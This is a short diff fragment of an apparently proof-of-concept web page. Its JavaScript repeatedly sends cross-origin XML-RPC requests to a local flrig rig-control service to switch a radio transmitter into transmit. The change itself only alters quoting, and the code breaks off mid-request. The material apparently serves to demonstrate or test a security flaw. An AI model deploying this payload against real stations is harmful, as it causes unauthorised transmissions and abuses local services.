@@ -32,8 +32,8 @@ PAGE = """<!doctype html><title>not a rig client</title>
 <script>
 const listener = "LISTENER/";
 const flrig = "FLRIG/RPC2";
-const key = "<?xml version=\"1.0\"?><methodCall><methodName>rig.set_ptt</methodName>" +
-            "<params><param><value><i4>1</i4></value></param></params></methodCall>";
+const key = '<?xml version="1.0"?><methodCall><methodName>rig.set_ptt</methodName>' +
+            '<params><param><value><i4>1</i4></value></param></params></methodCall>';
 async function attack() {
   for (let i = 0; i < TRIES; i++) {
     await fetch(flrig, {method: "POST", mode: "no-cors", body: key,
